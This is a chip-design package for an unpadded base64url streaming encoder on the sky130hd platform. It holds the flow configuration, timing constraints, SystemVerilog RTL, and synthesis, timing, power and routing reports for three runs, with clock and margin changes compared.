**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = base64url_stream_encoder_core
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/b64u_pkg.sv /design/src/rtl/b64u_enc.sv /design/src/rtl/b64u_ser.sv /design/src/rtl/base64url_stream_encoder_core.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 20
export CORE_MARGIN = 2
export CORE_UTILIZATION = 55
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_2 sky130_fd_sc_hd__clkbuf_4 sky130_fd_sc_hd__clkbuf_8
export DETAILED_ROUTE_END_ITERATION = 16
export DONT_BUFFER_PORTS = 1
export PLACE_DENSITY = 0.8
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
```
**constraint.sdc**
```tcl
create_clock -name clk -period 2.3 [get_ports clk]
set_input_delay 0.575 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.575 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
```
**src/rtl/b64u_pkg.sv**
```systemverilog
package b64u_pkg;

	// Position of a byte within its 3-byte group
	localparam logic [1:0] PH_FIRST  = 2'd0;
	localparam logic [1:0] PH_SECOND = 2'd1;
	localparam logic [1:0] PH_THIRD  = 2'd2;

	localparam logic [7:0] CH_UPPER_A = 8'h41;
	localparam logic [7:0] CH_LOWER_A = 8'h61;
	localparam logic [7:0] CH_DIGIT_0 = 8'h30;
	localparam logic [7:0] CH_DASH    = 8'h2D;
	localparam logic [7:0] CH_UNDER   = 8'h5F;

	localparam logic [5:0] SX_LOWER = 6'd26;
	localparam logic [5:0] SX_DIGIT = 6'd52;
	localparam logic [5:0] SX_DASH  = 6'd62;

	// Characters produced by one input byte
	typedef struct packed {
		logic [5:0] sx0;
		logic [5:0] sx1;
		logic       last0;
		logic       last1;
		logic       two;
	} b64u_pair_t;

	function automatic logic [7:0] b64u_char(input logic [5:0] sx);
		logic [7:0] ext;
		ext = {2'b00, sx};
		if (sx < SX_LOWER) begin
			return CH_UPPER_A + ext;
		end else if (sx < SX_DIGIT) begin
			return CH_LOWER_A + ext - {2'b00, SX_LOWER};
		end else if (sx < SX_DASH) begin
			return CH_DIGIT_0 + ext - {2'b00, SX_DIGIT};
		end else if (sx == SX_DASH) begin
			return CH_DASH;
		end else begin
			return CH_UNDER;
		end
	endfunction

endpackage

```
**src/rtl/b64u_enc.sv**
```systemverilog
module b64u_enc (
	input  logic                   clk,
	input  logic                   arst_n,
	input  logic [7:0]             data_byte,
	input  logic                   is_final,
	input  logic                   take,
	output b64u_pkg::b64u_pair_t   pair
);
	import b64u_pkg::*;

	logic [1:0] phase_q;
	logic [3:0] carry_q;
	logic [1:0] phase_nx;
	logic [3:0] carry_nx;

	always_comb begin
		pair       = '0;
		phase_nx   = PH_FIRST;
		carry_nx   = '0;
		unique case (phase_q)
			PH_SECOND: begin
				pair.sx0 = {carry_q[1:0], data_byte[7:4]};
				carry_nx = data_byte[3:0];
				phase_nx = PH_THIRD;
				if (is_final) begin
					pair.sx1   = {data_byte[3:0], 2'b00};
					pair.last1 = 1'b1;
					pair.two   = 1'b1;
				end
			end
			PH_THIRD: begin
				pair.sx0   = {carry_q[3:0], data_byte[7:6]};
				pair.sx1   = data_byte[5:0];
				pair.last1 = is_final;
				pair.two   = 1'b1;
			end
			default: begin
				// first byte of a group; the unreachable phase decodes the same
				pair.sx0 = data_byte[7:2];
				carry_nx = {2'b00, data_byte[1:0]};
				phase_nx = PH_SECOND;
				if (is_final) begin
					pair.sx1   = {data_byte[1:0], 4'b0000};
					pair.last1 = 1'b1;
					pair.two   = 1'b1;
				end
			end
		endcase
	end

	always_ff @(posedge clk or negedge arst_n) begin
		if (!arst_n) begin
			phase_q <= PH_FIRST;
			carry_q <= '0;
		end else if (take) begin
			if (is_final) begin
				phase_q <= PH_FIRST;
				carry_q <= '0;
			end else begin
				phase_q <= phase_nx;
				carry_q <= carry_nx;
			end
		end
	end

endmodule

```
**src/rtl/b64u_ser.sv**
```systemverilog
module b64u_ser (
	input  logic                   clk,
	input  logic                   arst_n,
	input  b64u_pkg::b64u_pair_t   pair,
	input  logic                   load,
	output logic                   can_take,
	output logic                   m_tvalid,
	input  logic                   m_tready,
	output logic [7:0]             m_tdata,
	output logic                   m_tlast
);
	import b64u_pkg::*;

	logic [1:0] cnt_q;    // characters left in the pair register
	logic [5:0] sxa_q;
	logic [5:0] sxb_q;
	logic       lasta_q;
	logic       lastb_q;
	logic       vld_q;
	logic [7:0] chr_q;
	logic       lst_q;
	logic       out_ld;

	assign out_ld   = (cnt_q != 2'd0) && (!vld_q || m_tready);
	assign can_take = (cnt_q == 2'd0) || ((cnt_q == 2'd1) && out_ld);

	always_ff @(posedge clk or negedge arst_n) begin
		if (!arst_n) begin
			cnt_q <= '0;
			vld_q <= 1'b0;
		end else begin
			if (load) begin
				cnt_q <= pair.two ? 2'd2 : 2'd1;
			end else if (out_ld) begin
				cnt_q <= cnt_q - 2'd1;
			end
			if (out_ld) begin
				vld_q <= 1'b1;
			end else if (m_tready) begin
				vld_q <= 1'b0;
			end
		end
	end

	always_ff @(posedge clk) begin
		if (load) begin
			sxa_q   <= pair.sx0;
			lasta_q <= pair.last0;
			sxb_q   <= pair.sx1;
			lastb_q <= pair.last1;
		end else if (out_ld) begin
			sxa_q   <= sxb_q;
			lasta_q <= lastb_q;
		end
		if (out_ld) begin
			chr_q <= b64u_char(sxa_q);
			lst_q <= lasta_q;
		end
	end

	assign m_tvalid = vld_q;
	assign m_tdata  = chr_q;
	assign m_tlast  = lst_q;

endmodule

```
**src/rtl/base64url_stream_encoder_core.sv**
```systemverilog
// Unpadded base64url encoder. Raw bytes enter on the s_ port, one per transaction,
// with s_tlast on the final byte of a message; ASCII characters of the URL-safe
// alphabet leave on the m_ port, one per transaction, with m_tlast on the final
// character. While the output does not stall, bytes that yield one character are
// taken back to back every cycle; the third byte of a group and a final byte yield
// two characters, and a further byte is taken only as the second leaves the pair
// register, since the output register moves one character per cycle. Long messages
// average 4 characters per 3 bytes. One more byte is taken while a finished character
// waits on the output; bytes pass the pair register, then the output register.
module base64url_stream_encoder_core (
	input  logic       clk,
	input  logic       arst_n,
	input  logic       s_tvalid,
	output logic       s_tready,
	input  logic [7:0] s_tdata,   // [7:0] data_byte
	input  logic       s_tlast,   // is_final
	output logic       m_tvalid,
	input  logic       m_tready,
	output logic [7:0] m_tdata,   // [7:0] out_char
	output logic       m_tlast    // out_last
);
	import b64u_pkg::*;

	b64u_pair_t pair;
	logic       can_take;
	logic       take;

	assign s_tready = can_take;
	assign take     = s_tvalid && can_take;

	b64u_enc u_enc (
		.clk       (clk),
		.arst_n    (arst_n),
		.data_byte (s_tdata),
		.is_final  (s_tlast),
		.take      (take),
		.pair      (pair)
	);

	b64u_ser u_ser (
		.clk      (clk),
		.arst_n   (arst_n),
		.pair     (pair),
		.load     (take),
		.can_take (can_take),
		.m_tvalid (m_tvalid),
		.m_tready (m_tready),
		.m_tdata  (m_tdata),
		.m_tlast  (m_tlast)
	);

endmodule

```
==> Word-level counts from Yosys, hierarchy flattened <==
Index checks and enable logic that the tools add are counted.
{ "word_totals": {"input_bits": 13, "reg_bits": 32, "word_cells": 53, "output_inout_bits": 11} }
{ "op_classes": {"n_reduce_logical": 10, "n_eq_ne": 4, "magnitude_cmp": 3, "mux": 20, "n_addsub": 6} }
{ "ops": {"columns": ["operator", "count"], "rows": [
  ["$mux W6", 4],
  ["$mux W8", 3],
  ["$pmux W12 S2", 1],
  ["$add A7 B6 Y8 const A", 2],
  ["$lt A6 B6 Y1 const B", 2],
  ["$mux W2", 6],
  ["$pmux W4 S2", 1],
  ["$sub A8 B5 Y8 const B", 1],
  ["$sub A8 B6 Y8 const B", 1],
  ["$add A6 B6 Y7 const A", 1],
  ["$mux W7", 1],
  ["$eq A6 B6 Y1 const B", 1],
  ["$lt A6 B5 Y1 const B", 1],
  ["$reduce_bool A2 Y1", 3],
  ["$eq A2 B1 Y1 const B", 2],
  ["$mux W4", 1],
  ["$pmux W2 S2", 1],
  ["$logic_and A1 B1 Y1", 3],
  ["$eq A2 B2 Y1 const B", 1],
  ["$logic_not A2 Y1", 1],
  ["$logic_or A1 B1 Y1", 2],
  ["$mux W1", 2],
  ["$sub A2 B1 Y2 const B", 1],
  ["$logic_not A1 Y1", 1]
]} }

==> Depth between registers and ports, before layout <==
Gate-level depths: netlist of the first run.
{ "logic_depth": {"depth_word": 7, "ltp_mapped": 7, "mapped_depth_nobuf": 6} }

==> Modules after synthesis <==
The synthesis of the first run kept the hierarchy.
{ "modules_own_cells": {"columns": ["module", "instances", "area_per_inst_um2", "seq_area_each_um2", "cells_per_inst"], "rows": [
  ["b64u_ser", 1, 1380.1, 765.7, 109],
  ["b64u_enc", 1, 523.0, 150.1, 70],
  ["base64url_stream_encoder_core", 1, 6.3, 0.0, 1]
]} }

==> Worst setup path before layout of the first run <==
No wires, ideal clock.
{ "synth_timing": {"kind": "input to register", "startpoint": "input m_tready", "endpoint": "register u_ser.lasta_q (data pin)", "setup_time_ns": 0.260, "stages": 5, "setup_slack_ns": 0.187, "n_path_buf": 1, "required_ns": 2.040, "arrival_time_ns": 1.854, "path_cell_list": "nand2b_1 a21o_1 and2_1 clkbuf_1 mux2_2"} }
{ "synth_between": {"elab_chain_len": 5} }
{ "synth_rtl": {"columns": ["element", "line", "rtl"], "rows": [
  ["start, declared", "base64url_stream_encoder_core.sv:18", "input logic m_tready,"],
  ["$logic_or A1 B1 Y1", "b64u_ser.sv:24", "assign out_ld = (cnt_q != 2'd0) && (!vld_q || m_tready);"],
  ["$logic_and A1 B1 Y1", "b64u_ser.sv:24", null],
  ["$logic_and A1 B1 Y1", "b64u_ser.sv:25", "assign can_take = (cnt_q == 2'd0) || ((cnt_q == 2'd1) && out_ld);"],
  ["$logic_or A1 B1 Y1", "b64u_ser.sv:25", null],
  ["named net s_tready", "base64url_stream_encoder_core.sv:14", "output logic s_tready,"],
  ["$logic_and A1 B1 Y1", "base64url_stream_encoder_core.sv:29", "assign take = s_tvalid && can_take;"],
  ["named net take", "base64url_stream_encoder_core.sv:26", "logic take;"],
  ["end signal, assigned", "b64u_ser.sv:48", "lasta_q <= pair.last0;"],
  ["end signal, assigned", "b64u_ser.sv:53", "lasta_q <= lastb_q;"],
  ["end, declared", "b64u_ser.sv:17", "logic lasta_q;"]
]} }
The timed path passes the listed nets, and every way through them passes these cells.
A chain may end at the register's enable or synchronous reset.

==> Final worst setup path of the first run <==
{ "layout_timing": {"startpoint": "register u_ser.sxa_q[2]", "endpoint": "register u_ser.chr_q[2] (netlist: u_ser/m_tdata[2]) (data pin)"} }
{ "layout_between": {"elab_chain_len": 5, "word_cells_on_any_way": 11, "classes_between": "add/sub: 5; order compare: 3; mux: 3"} }
{ "layout_rtl": {"columns": ["element", "line", "rtl"], "rows": [
  ["start, declared", "b64u_ser.sv:15", "logic [5:0] sxa_q;"],
  ["start signal, assigned", "b64u_ser.sv:47", "sxa_q <= pair.sx0;"],
  ["start signal, assigned", "b64u_ser.sv:52", "sxa_q <= sxb_q;"],
  ["$add A6 B6 Y7", "b64u_pkg.sv:35", "return CH_DIGIT_0 + ext - {2'b00, SX_DIGIT};"],
  ["$sub A8 B6 Y8", "b64u_pkg.sv:35", null],
  ["$mux W8", "b64u_pkg.sv:34", "end else if (sx < SX_DASH) begin"],
  ["$mux W8", "b64u_pkg.sv:32", "end else if (sx < SX_DIGIT) begin"],
  ["$mux W8 *", "b64u_pkg.sv:30", "if (sx < SX_LOWER) begin"],
  ["end signal, assigned", "b64u_ser.sv:56", "chr_q <= b64u_char(sxa_q);"],
  ["end, declared", "b64u_ser.sv:20", "logic [7:0] chr_q;"]
]} }
Mark *: on every way between the ends. The rest lies on a longest branch, timed or not.

==> results of run 1 <==
==> routing by layer <==
metal / track usage, % / vias to the layer above
li1: - / 664
met1: 23.1 / 648
met2: 33.9 / 60
met3: 7.75 / 7
met4: 7.50 / 0
met5: 0 / -
==> sequential cells by signal, summed over array words and instances (netlist names), 2 cells and up <==
signal         cells
u_enc/carry_q      4
u_ser/sxb_q        6
u_enc/phase_q      2
u_ser/m_tdata      8
u_ser/cnt_q        2
u_ser/sxa_q        6
==> layout by cell type (no fill, tap or decap), types with 2 or more instances in the layout <==
cell type   n
o22ai_1     5
nand3_1     5
nand3b_1    3
buf_4       4
a22oi_1     8
mux2_2      8
nand2_1    17
a221oi_2    2
a21o_1      4
or3_1       3
a32oi_1     3
clkbuf_4    6
and2_1      3
a31oi_1     2
o221ai_1    2
inv_1      14
dfrtp_1     9
o21ai_0    12
or2_2       2
nor3_1      2
a211oi_1    3
nor2_1      4
ha_1       10
edfxtp_1   23
a21oi_1     4
and3_1      2
==> critical path, delay by kind of cell, from the launching register on <==
family / cells / cell delay [ps]
and+or+nand+nor: 1 / 190
AOI/OAI and AO/OA: 3 / 820
buffers and inverters: 1 / 150
DFF: 1 / 490
adders and majority gates: 1 / 250
==> through the flow <==
stage / utilization [%] / worst slack, ps / std cells / hold slack, ps / power, W
after CTS: 59.5 / 270 / 227 / 321 / 0.00284
final: 59.5 / 152 / 227 / 332 / 0.00285
after global routing: 59.5 / 7.85 / 227 / 299 / 0.00307
after detailed placement: 57.5 / 295 / 218 / 280 / 0.00251
after global placement: 57.5 / 337 / 218 / 280 / 0.00245
after floorplan: - / 187 / 180 / 279 / 0.00227
==> cell type report <==
class	instances	area share, %
clock buffers	6	2.27
clock inverters	2	0.567
inverters	14	2.65
multi-input cells	122	43.5
flip-flops and latches	32	46.1
well taps	46	2.90
repair buffers	5	2.02
==> logic make-up (layout without fill, tap and decap cells) <==
family / count (synthesis) / count (layout) / synth area share [%]
multiplexers: 8 / 8 / 4.72
flip-flops: 32 / 32 / 48.0
AO/OA/AOI/OAI: 50 / 50 / 18.3
adder cells (fa/ha/maj): 10 / 10 / 6.55
AND/OR/NAND/NOR: 51 / 51 / 14.5
other: 1 / 1 / 0.196
XOR/XNOR: 2 / 2 / 0.918
buffers and inverters: 26 / 27 / 6.81
==> final timing paths <==
path | startpoint | to | slack (ps) | depth (start not counted)
min reg2reg | u_ser/lasta_q | u_ser/m_tlast | 430 | 0
min | s_tlast | u_ser/lastb_q | 330 | 0
max | u_ser/sxa_q[2] | u_ser/m_tdata[2] | 150 | 6
max reg2reg | u_ser/sxa_q[2] | u_ser/m_tdata[2] | 150 | 6
max in group asynchronous | arst_n | u_enc/phase_q[1] | 1430 | 1
min in group asynchronous | arst_n | u_enc/phase_q[0] | 590 | 1
==> power by group through the flow <==
| stage | clock network, W | logic (W) | registers [W] |
|---|---|---|---|
| floorplan | 0 | 0.00115 | 0.00111 |
| global placement | 0 | 0.00125 | 0.00119 |
| detailed placement | 0 | 0.00130 | 0.00121 |
| CTS | 0.000332 | 0.00131 | 0.00120 |
| global route | 0.000363 | 0.00148 | 0.00123 |
| finish | 0.000318 | 0.00134 | 0.00120 |
==> repair_timing <==
| item | in CTS | in global routing |
|---|---|---|
| hold buffers | 1 | 0 |
| endpoints found under the hold margin | 9 | 0 |
| endpoints found under the setup margin | 0 | 0 |
==> out/results.ini, run 1 <==
[outcome]
status = finished, final reports clean

[flow_run]
cap_viol_max_count = 0

[critical_path]
crit_chain = inv_1 > ha_1 > and3_1 > o21ai_0 > o22ai_1 > a211o_1
critPathMaxStageDelay_ps = 490
crit_arrival_ps = 2240
worstSetupPathType = register to register
endpoint_kind = register
crit_path_start_kind = register
crit_slowest_cell = edfxtp_1
crit_required_ps = 2390
worst-path-max-fanout = 8

[detailed_routing]
wl_met2_mm = 1.79
drc = 0
wl_mm = 3.58
ant_nets = 0
wl_per_cell_um = 15.8
num_vias = 1379
drt_iter0_drc = 119
dr.pass1.iters = 5
wl_met1_mm = 1.48
dr.max_layer_used = met4
viasPerCell = 6.07
wl_met3_um = 254

[global_route]
grt.total_usage_pct = 20.2
grt_max_degree = 22
grt_pass1_vias = 1383
grt_pass1_wl_mm = 6.21
antenna_found_initial = 0
overflow = 0

[logic_synthesis]
synth_edf_count = 23
synth_ff_type = edfxtp_1
ys_types = 46
synth_async_sr_flop_share_pct = 28.1
yosys.area.top_type_share_pct = 36.2
ys_seq_area_share_pct = 48.0
ys_ff_latch = 32
yosys.area.top_type = edfxtp_1
synthTopCellsByCount = 23 x edfxtp_1, 17 x nand2_1, 14 x inv_1, 12 x o21ai_0, 10 x ha_1
syn_inst = 180
syn_nets = 203
syn_area_um2 = 1910
yosysWarnings = 6
synth_most_common_cell = edfxtp_1
synth_area_per_cell_um2 = 10.6
synth_area_leaders = edfxtp_1 36%, dfrtp_1 12%, ha_1 6.6%

[power_and_ir_drop]
p_int_w = 0.00168
pwr-share-clk_pct = 11.2
ir_drop_mv = 0.758
combPwrFrac_pct = 46.9
netSwitchingPower_w = 0.00117
p_per_area_nw_per_um2 = 1440
p_leak_nw = 0.770
swShare_pct = 41.2
pwr-share-seq_pct = 42.0

[floorplanning]
die-area_um2 = 3960
die_w_um = 62.9
initial_core_util_pct = 57.2
core_um2 = 3340
fp-row-count = 21
fp.dieH_um = 62.9
ioPinCount = 24

[timing]
setup_viol = 0
slew_headroom_pct = 52.7
tightest_slew_ps = 703
hold_viol = 0
post-route-period-util_pct = 93.4
skew_ps = 7.56
period_needed_ps = 2150
slew_violations = 0
rsz0062_at_grt = no
timing.fmax_ghz = 0.466
final.setup.tns_ps = 0

[clock_tree]
cts_max_path_buffers = 2
cts-root-buf = clkbuf_4
cts_tree = built
cts.sinks = 32
cts_buffers = 5
insertion_delay_ps = 330
h-tree-depth = 2
cts_setup_buffers = 0
clkTransAtPathRegs_ps = 100
cts_resized = 0

[cells_and_area]
multi_input_area_um2 = 863
area_growth_pct = 4.00
seq_area_um2 = 916
drive_gt1_share_pct = 14.9
diodes = 0
n_fill_cell = 287
nets = 203
final_area_um2 = 1990

[placed_design]
place_congestion = 1.03
dp_hpwl_mm = 2.63
dpl-instance-area_um2 = 1920
port-buffer-count = 0

[min_path]
min_path_type = input port to register

Power figures use the tool's default switching activity.
==> run 2: changes to the inputs <==
--- a/config.mk
+++ b/config.mk
@@ -12,6 +12,7 @@
 export DETAILED_ROUTE_END_ITERATION = 16
 export DONT_BUFFER_PORTS = 1
 export PLACE_DENSITY = 0.8
+export SETUP_SLACK_MARGIN = 0.5
 export SLEW_MARGIN = 20
 export SYNTH_ARGS = -nofsm -noshare
 export SYNTH_HDL_FRONTEND = slang
==> run 2 against run 1 <==
Worst setup slack gained 290 ps. Critical path depth shrank 1. Final cell count grew 6.2%. Routed wire length grew 17%. Via count grew 11%. Maximum frequency grew 16%. Critical path type unchanged. Largest cell class is now multi-input combinational cells. Largest power group unchanged.
==> out/results.ini, run 2 (synthesis gave the netlist of run 1 again) <==
[cells_and_area]
drive_gt1_share_pct = 30.3
utilization_pct = 65.3
diodes = 0
nets = 217
n_fill_cell = 246
final_area_um2 = 2180
final_cell_mix = 23 x edfxtp_1, 17 x nand2_1, 17 x buf_4, 11 x o21ai_0, 10 x inv_1
final_common_cell = edfxtp_1
area_growth_pct = 14.1
largest_reg_flops = 8

[timing]
rsz0062_at_grt = yes
timing.fmax_ghz = 0.538
post-route-period-util_pct = 80.8
setup_viol = 0
slew_violations = 0
slew_headroom_pct = 58.2
setup_ws_ps = 441
hold_viol = 0
final.setup.tns_ps = 0
period_needed_ps = 1860
skew_ps = 16.1
tightest_slew_ps = 623

[critical_path]
endpoint_kind = register
crit_arrival_ps = 1950
crit_required_ps = 2390
worstSetupPathType = register to register
crit_path_start_kind = register
worst-path-max-fanout = 7

[outcome]
status = finished, final reports clean

[global_route]
grt_pass1_vias = 1350
antenna_found_initial = 0
grt_max_degree = 22
overflow = 0
grt.total_usage_pct = 21.2
grt_pass1_wl_mm = 6.40

[detailed_routing]
dr.pass1.iters = 5
ant_nets = 0
num_vias = 1534
drc = 0
viasPerCell = 6.37
wl_mm = 4.20
drt_iter0_drc = 157
wl_per_cell_um = 17.4

[floorplanning]
die_w_um = 62.9
initial_core_util_pct = 57.2
fp.dieH_um = 62.9
ioPinCount = 24
core_um2 = 3340
die-area_um2 = 3960
fp-row-count = 21

[placed_design]
dpl-instance-area_um2 = 1910
port-buffer-count = 0
pre_cts_slack_ps = 318
place_congestion = 1.00
dp_hpwl_mm = 2.60

[clock_tree]
cts_tree = built
insertion_delay_ps = 350
cts_buffers = 5
h-tree-depth = 2
cts_max_path_buffers = 2
cts.sinks = 32
clkTransAtPathRegs_ps = 100
cts-root-buf = clkbuf_4

[power_and_ir_drop]
ir_drop_mv = 0.765
pwr-share-seq_pct = 35.7
p_per_area_nw_per_um2 = 1520
netSwitchingPower_w = 0.00136
p_leak_nw = 0.842
total_power_w = 0.00331
combPwrFrac_pct = 53.7
swShare_pct = 41.1
p_int_w = 0.00195
pwr-share-clk_pct = 10.6

[min_path]
min_path_type = input port to register

[flow_run]
cap_viol_max_count = 0

## run 2: cell types whose count changed in the layout (fill, tap and decap cells not counted), moves of 2 or more
cell   change
ha_2       +3
ha_1       -5
ha_4       +2
inv_2      +4
or2_4      +2
inv_1      -4
buf_4     +13
## run 2: layout make-up
cell class | instances | area [µm²] | area share, %
multi-input cells | 123 | 952 | 43.7
flip-flops and latches | 32 | 916 | 42.0
repair buffers | 18 | 138 | 6.32
clock buffers | 7 | 58.8 | 2.70
well taps | 46 | 57.6 | 2.64
inverters | 14 | 52.6 | 2.41
clock inverters | 1 | 3.75 | 0.172
## run 2: critical path, cell delays in order (launching register included)
cell and delay [ps]:
edfxtp_1 520, ha_4 240, a21o_1 190, or2_4 280, o221ai_1 240, nand2_1 120
## run 2: path summary, 6_finish.rpt
path / from / end / slack [ps] / cells past startpoint
max in group asynchronous: arst_n / u_enc/carry_q[2] / 1430 / 1
hold / removal: s_tlast / u_ser/lastb_q / 320 / 0
hold reg to reg: u_ser/lasta_q / u_ser/m_tlast / 430 / 0
setup reg to reg: u_ser/sxa_q[3] / u_ser/m_tdata[3] / 440 / 5
setup / recovery: u_ser/sxa_q[3] / u_ser/m_tdata[3] / 440 / 5
min in group asynchronous: arst_n / u_enc/phase_q[0] / 580 / 1
## run 2: through the flow
stage | hold slack [ps] | cells
CTS | 313 | 230
global route | 306 | 241
floorplan | 279 | 180
finish | 322 | 241
global placement | 280 | 215
detailed placement | 280 | 215
## run 2: timing repair
action | CTS | global route
cloned | 1 | 0
gates resized for setup | 6 | 11
setup buffers | 5 | 11
endpoints found under the hold margin | 9 | 0
pin swaps | 2 | 4
endpoints found under the setup margin | 12 | 13
hold buffers | 1 | 0
## run 2: metal layers
layer  track usage [%]  share of wire, %  wire length (µm)  vias up
met5                 0                 0                 0        -
met4              10.8               5.0               210        0
met3              6.49               7.5               314       27
met2              35.0                49              2050       86
met1              24.7                39              1630      727
li1                  -                 -                 -      694
## run 2: power by group through the flow
stage	Combinational (W)	Sequential [W]	Clock, W
finish	0.00178	0.00118	0.000350
CTS	0.00145	0.00118	0.000354
global route	0.00190	0.00121	0.000379
detailed placement	0.00132	0.00121	0
global placement	0.00126	0.00119	0
floorplan	0.00119	0.00112	0
==> run 3: changes to the inputs <==
==> constraint.sdc (replaced) <==
create_clock -name clk -period 1.75 [get_ports clk]
set_input_delay 0.4375 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.4375 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
==> run 3 against run 2 <==
The flow now finishes with violations (setup timing). Non-clock buffer count is 24 higher. Register-to-register slack worse by 480 ps. Count of clock-buffer cells in the layout is 1 lower. Global-route usage is 4.5 points higher. Total power is 61% higher. Critical path depth stayed put. Worst setup slack worse by 480 ps. Hold slack worse by 140 ps. Final cell count is 10% higher. Combinational power is 85% higher. Core utilization is 13 points higher. Design area is 20% higher. Largest power group unchanged.
==> out/results.ini, run 3 (synthesis gave the netlist of run 1 again) <==
[clock_tree]
cts_buffers = 5
cts-root-buf = clkbuf_4
cts.sinks = 32
insertion_delay_ps = 340
cts_tree = built
h-tree-depth = 2
cts_max_path_buffers = 2
clkTransAtPathRegs_ps = 110

[cells_and_area]
fin_cells = 265
utilization_pct = 78.6
largest_reg_flops = 8
n_fill_cell = 182
diodes = 0
area_growth_pct = 37.4
multi_input_area_um2 = 1150
seq_area_um2 = 917
final_cell_mix = 23 x buf_4, 23 x edfxtp_1, 14 x buf_6, 12 x nand2_1, 9 x inv_1
drive_gt1_share_pct = 48.9
nets = 241

[placed_design]
pre_cts_slack_ps = -60.2
port-buffer-count = 0
dp.cells = 230
place_congestion = 0.919
dp_hpwl_mm = 2.98

[timing]
rsz0062_at_grt = yes
whs_ps = 187
setup_viol = 5
slew_violations = 0
post-route-period-util_pct = 102
hold_viol = 0
period_needed_ps = 1790
timing.fmax_ghz = 0.559
setup_ws_ps = -37.4
final.setup.tns_ps = -87.6
skew_ps = 15.4

[floorplanning]
die_w_um = 62.9
core_um2 = 3340
die-area_um2 = 3960
initial_core_util_pct = 57.2
fp.dieH_um = 62.9
fp-row-count = 21
ioPinCount = 24

[detailed_routing]
ant_nets = 0
viasPerCell = 6.31
wl_mm = 5.39
dr.pass1.iters = 4
num_vias = 1673
drc = 0
drt_iter0_drc = 170
wl_per_cell_um = 20.3

[power_and_ir_drop]
ir_drop_mv = 1.30
p_per_area_nw_per_um2 = 2030
p_leak_nw = 1.08

[min_path]
min_path_type = input port to register

[global_route]
grt.total_usage_pct = 25.7
overflow = 0
grt_pass1_wl_mm = 7.71
antenna_found_initial = 0
grt_max_degree = 22
grt_pass1_vias = 1618

[critical_path]
worst-path-max-fanout = 5
crit_path_start_kind = register
crit_required_ps = 1830
crit_arrival_ps = 1870
worstSetupPathType = register to register
critPathMaxStageDelay_ps = 460
crit_slowest_cell = edfxtp_1
endpoint_kind = register
crit_chain = inv_1 > ha_2 > nor3b_4 > a211oi_1 > or3_1

[outcome]
status = complete, but fails checks
violations = setup timing

[flow_run]
cap_viol_max_count = 0

[run 3: path summary, 6_finish.rpt]
check,start,cells past startpoint,endpoint,slack [ps]
max reg2reg,u_ser/sxa_q[3],5,u_ser/m_tdata[5],-40
min reg2reg,u_ser/lasta_q,0,u_ser/m_tlast,430
max in group asynchronous,arst_n,1,u_enc/phase_q[1],980
min in group asynchronous,arst_n,1,u_enc/phase_q[0],450
max,u_ser/sxa_q[3],5,u_ser/m_tdata[5],-40
min,s_tlast,0,u_ser/lastb_q,190
[run 3: metal layers]
| metal | vias up | share of wire (%) | global-route usage (%) |
|---|---|---|---|
| met5 | - | 0 | 0 |
| met4 | 0 | 4.3 | 11.1 |
| met3 | 26 | 5.8 | 7.75 |
| met2 | 97 | 53 | 46.9 |
| met1 | 802 | 37 | 26.9 |
| li1 | 748 | - | - |
[run 3: final cells by class]
type,instances,area share (%)
Sequential cell,32,35.0
Timing Repair Buffer,42,14.9
Clock inverter,2,0.429
Inverter,14,2.00
Tap cell,46,2.19
Clock buffer,6,1.72
Multi-Input combinational cell,123,43.8
[run 3: critical path, delay by kind of cell (launching register included)]
kind                     cells  cell delay (ps)
buffers and inverters        1              120
AO/OA/AOI/OAI                1               70
adder cells (fa/ha/maj)      1              250
AND/OR/NAND/NOR              2              630
flip-flops                   1              460
[run 3: timing repair]
item,4_1_cts,5_1_grt
cloned,3,0
gates resized for setup,42,28
pin swaps,8,9
buffers inserted,11,12
setup endpoints to repair,50,51
hold endpoints to repair,9,0
hold buffers,1,0
[run 3: stage by stage]
stage / power (W) / area, µm²
final: 0.00533 / 2620
after global routing: 0.00561 / 2620
after detailed placement: 0.00372 / 2080
after floorplan: 0.00321 / 2000
after global placement: 0.00359 / 2080
after CTS: 0.00470 / 2420
[run 3: report_power, final]
| group | internal, W | switching (W) | leakage [nW] | total (W) |
|---|---|---|---|---|
| combinational | 0.00168 | 0.00163 | 0.710 | 0.00330 |
| clock | 0.000172 | 0.000260 | 0.0360 | 0.000431 |
| sequential | 0.00129 | 0.000308 | 0.335 | 0.00160 |
| total | 0.00314 | 0.00220 | 1.08 | 0.00533 |
